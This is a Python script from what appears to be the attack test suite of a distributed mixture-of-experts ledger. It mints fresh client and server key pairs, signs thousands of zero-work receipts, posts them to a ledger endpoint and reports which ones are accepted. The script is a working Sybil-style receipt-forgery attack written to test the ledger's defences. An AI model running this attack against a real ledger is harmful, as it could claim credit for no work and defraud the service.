"""Attacker for attack 5 of issue 32: receipts for no work, run as its own process.

    python zero_flops.py LEDGER_URL MODEL_ID [--receipts 2000]

Makes two fresh keys per receipt (a client and a server, neither holding any credit), and has
each pair sign and countersign one receipt of one token to expert 0 with ``expert_flops = 0``:
what such a receipt costs at one credit per FLOP is nothing. POSTs them in one batch and prints
one JSON line: the HTTP status and how many receipts got each status and reason.
"""

from __future__ import annotations

import argparse
import json
import os
import time
import urllib.request
from collections import Counter
from dataclasses import replace

import msgpack

from moeswarm.protocol import Identity, Receipt, SignatureKind, canonical, countersign, encode, receipt_body


def receipt(model_id: str, seq: int) -> bytes:
    client, server = Identity.generate(), Identity.generate()
    r = Receipt(request_id=os.urandom(16), client=client.peer_id, server=server.peer_id, model_id=model_id, layer=0,
                experts=(0,), tokens=1, pairs=1, expert_flops=0, input_hash=os.urandom(32),
                output_hash=os.urandom(32), time_ms=int(time.time() * 1000), seq=seq)
    r = replace(r, sig=server.sign(SignatureKind.RECEIPT, canonical(receipt_body(r))))
    return encode(countersign(client, r))


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("url")
    parser.add_argument("model_id")
    parser.add_argument("--receipts", type=int, default=2000)
    args = parser.parse_args()
    batch = [receipt(args.model_id, i + 1) for i in range(args.receipts)]
    request = urllib.request.Request(f"{args.url}/v1/receipts", data=msgpack.packb({"receipts": batch}, use_bin_type=True),
                                     method="POST", headers={"Content-Type": "application/msgpack"})
    with urllib.request.urlopen(request, timeout=120) as resp:
        results = json.loads(resp.read())["results"]
        status = resp.status
    print(json.dumps({"status": status, "keys": 2 * args.receipts,
                      "results": dict(Counter(f"{r['status']}/{r['reason']}" for r in results))}), flush=True)


if __name__ == "__main__":
    main()
